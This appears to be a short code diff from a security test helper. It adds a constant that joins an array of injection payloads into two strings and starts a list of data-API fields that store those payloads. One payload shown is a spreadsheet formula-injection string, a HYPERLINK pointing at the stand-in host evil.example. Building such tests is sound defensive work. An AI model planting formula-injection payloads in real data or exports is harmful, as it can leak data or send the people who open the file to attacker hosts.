@@ -24,6 +24,9 @@ export const PAYLOADS = [
   '=HYPERLINK("//evil.example?x","x")',
 ] as const;
 
+/** All of them in two texts. */
+export const HALVES = [PAYLOADS.slice(0, 10).join(' '), PAYLOADS.slice(10).join(' ')] as const;
+
 /** Fields of the data API that store a payload and are filled by the spec. */
 export const KEPT = [
   'claim/answerSave answer',
